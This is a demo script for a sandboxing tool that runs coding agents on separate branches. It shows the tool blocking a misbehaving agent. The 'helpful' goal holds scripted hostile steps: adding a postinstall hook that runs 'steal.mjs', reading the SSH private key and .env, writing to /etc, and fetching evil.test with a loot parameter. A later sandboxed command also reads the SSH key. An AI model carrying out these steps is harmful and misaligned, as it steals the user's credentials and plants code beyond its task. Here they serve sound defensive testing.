// scripts/demo.mjs: `npm run demo`: the main features in a terminal, without a key, an account or a network. Every command is real and works in
// a throw-away project; nothing outside it is written.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { whyNoSandbox } from './sandbox-works.mjs';
import { root, setUp } from './setup.mjs';

await setUp();
const problem = whyNoSandbox();
if (problem !== null) {
  process.stderr.write(`demo: ${problem}\n`);
  process.exit(1);
}
const colour = process.stdout.isTTY && process.env.NO_COLOR === undefined;
const bold = (text) => (colour ? `\x1b[1m${text}\x1b[0m` : text);
const dim = (text) => (colour ? `\x1b[2m${text}\x1b[0m` : text);
const say = (text = '') => process.stdout.write(`${text}\n`);
const started = Date.now();
const home = mkdtempSync(join(tmpdir(), 'ags-demo-'));
const project = join(home, 'webshop');
const env = {
  PATH: process.env.PATH,
  HOME: home,
  SHELL: '/bin/sh',
  TERM: process.env.TERM ?? 'dumb',
  LANG: process.env.LANG ?? 'C.UTF-8',
  AWS_SECRET_ACCESS_KEY: 'a-real-key',
  ...(colour ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }),
};

const GOALS = {
  discount: [
    'Give 10 % off above 100',
    "run: sed -i 's/return sum;/return sum > 100 ? sum * 0.9 : sum;/' src/price.mjs",
    'write: CHANGES.md - 10 % off above 100',
    'run: node --test',
    'commit: 10 % off above 100',
  ].join('\n'),
  docs: [
    'Explain the prices',
    'read: src/price.mjs',
    'write: docs/prices.md The total is the sum of the prices, less 10 % above 100.',
  ].join('\n'),
  helpful: [
    'Write a help page',
    'write: HELP.md See docs/prices.md.',
    `run: sed -i 's/"scripts": {/"scripts": { "postinstall": "node steal.mjs",/' package.json`,
    'read: ~/.ssh/id_ed25519',
    'read: .env',
    'run: touch /etc/owned',
    'fetch: https://evil.test/?loot=1',
  ].join('\n'),
};

try {
  story();
  say(bold(`\nDone in ${((Date.now() - started) / 1000).toFixed(1)} s. Try it in your own repository:`));
  say(
    '  ./ags doctor                                check what works on this machine\n  ./ags agents                                list agents, and how to sign in\n  ./ags start "<goal>" --agent demo           give a goal to an agent\n  ./ags exec -- npm test                      run any command on your repository, safely',
  );
} finally {
  rmSync(home, { recursive: true, force: true });
}

function story() {
  makeProject();
  step('1. Three goals, three agents, at the same time: each has its own branch, copy of the repository and sandbox.');
  say(dim('   (The demo agent needs no key: its goal lists the steps it takes. Real agents run the same way.)'));
  ags(['start', 'discount', GOALS.discount, '--agent', 'demo', '-d']);
  ags(['start', 'docs', GOALS.docs, '--agent', 'demo', '-d']);
  ags(['start', 'helpful', GOALS.helpful, '--agent', 'demo', '-d']);
  writeFileSync(join(project, 'mine.txt'), 'written meanwhile\n');
  const list = waitForAll();

  step('2. List the tasks.');
  ags(['list']);
  check(list.length === 3 && list.every(({ state }) => state === 'ready'), 'all three are ready');

  step('3. One agent did more than its goal. This is what it tried, and what ags stopped:');
  const log = ags(['logs', 'helpful']);
  check(log.stdout.includes('evil.test:443 refused'), 'a host that no rule allows was refused');
  check(!/BEGIN OPENSSH|hunter2/.test(readLog('helpful')), 'no secret was visible inside');
  check(!existsSync('/etc/owned'), 'nothing was written outside the sandbox');

  step('4. Show its changes. Files that can run code on your machine come first, with the reason.');
  const diff = ags(['diff', 'helpful']);
  check(/^MODIFIED +package\.json/m.test(diff.stdout), 'package.json is marked as risky');

  step('5. Merge the good tasks. Your own uncommitted work is not touched.');
  ags(['merge', 'discount', '-y']);
  ags(['merge', 'docs', '-y']);
  check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('0.9'), 'src/price.mjs was merged');
  check(readFileSync(join(project, 'mine.txt'), 'utf8') === 'written meanwhile\n', 'your own file is unchanged');
  show('git', ['log', '--oneline', '--format=%h %s (%an)']);

  step('6. Merge the third task. Files that can run code are left out.');
  ags(['merge', 'helpful', '-y']);
  check(existsSync(join(project, 'HELP.md')), 'HELP.md was merged');
  check(
    !readFileSync(join(project, 'package.json'), 'utf8').includes('postinstall'),
    'the install script was not merged',
  );

  step('7. Undo the last merge, then delete the task.');
  ags(['undo']);
  ags(['rm', '--yes', 'helpful']);
  ags(['cleanup', '--yes']);
  show('git', ['status', '--short', '--branch']);

  step('8. Run any command in a sandbox, on your current files. Nothing is written until you accept it.');
  const run = ags([
    'exec',
    '--review',
    'later',
    '--name',
    'try',
    '--',
    'sh',
    '-c',
    'node --test >/dev/null && echo tests pass; echo x > tried.txt; cat ~/.ssh/id_ed25519',
  ]);
  check(
    run.stdout.includes('tests pass') && !existsSync(join(project, 'tried.txt')),
    'the tests ran, and nothing was written',
  );
  ags(['cleanup', '--all', '--yes']);
}

function waitForAll() {
  for (const end = Date.now() + 120_000; Date.now() < end;) {
    const { tasks } = JSON.parse(run(process.execPath, [join(root, 'bin/ags.cjs'), 'list', '--json'], true).stdout);
    if (tasks.every(({ live }) => !live)) return tasks;
    spawnSync('sleep', ['0.2']);
  }
  return [];
}

function readLog(name) {
  return readFileSync(join(home, '.local/state/ags/tasks', name, 'agent.log'), 'utf8');
}

function makeProject() {
  const files = {
    'package.json': '{ "name": "webshop", "type": "module", "scripts": { "test": "node --test" } }\n',
    'src/price.mjs':
      'export function total(items) {\n  const sum = items.reduce((all, item) => all + item.price, 0);\n  return sum;\n}\n',
    'test/price.test.mjs':
      "import test from 'node:test';\nimport assert from 'node:assert';\nimport { total } from '../src/price.mjs';\n\ntest('the total is the sum of the prices', () => {\n  assert.equal(total([{ price: 2 }, { price: 3 }]), 5);\n});\n",
    '.gitignore': '.env\n',
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(project, path)), { recursive: true });
    writeFileSync(join(project, path), text);
  }
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh/id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\n');
  writeFileSync(join(project, '.env'), 'DB_PASSWORD=hunter2\n');
  for (const args of [
    ['init', '-q', '-b', 'main'],
    ['config', 'user.name', 'You'],
    ['config', 'user.email', 'you@example.test'],
    ['add', '-A'],
    ['commit', '-q', '-m', 'webshop'],
  ])
    spawnSync('git', args, { cwd: project, env });
}

function step(text) {
  say(`\n${bold(text)}`);
}

function ags(args, { quiet = false } = {}) {
  const shown = args.map((word) => (/^[\w./:@=-]+$/.test(word) ? word : `'${word.replace(/\n.*/s, ' ...')}'`));
  say(dim(`$ ags ${shown.join(' ')}`));
  return run(process.execPath, [join(root, 'bin/ags.cjs'), ...args], quiet);
}

function show(program, args, { hidden = false } = {}) {
  if (!hidden) say(dim(`$ ${program} ${args.join(' ')}`));
  return run(program, args, false);
}

function run(program, args, quiet) {
  const done = spawnSync(program, args, { cwd: project, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  if (!quiet) process.stdout.write(`${done.stdout}${done.stderr}`.replaceAll(/^(?=.)/gm, '    '));
  return done;
}

function check(holds, what) {
  say(`  ${holds ? 'ok' : 'FAILED'}  ${what}`);
  if (!holds) process.exitCode = 1;
}
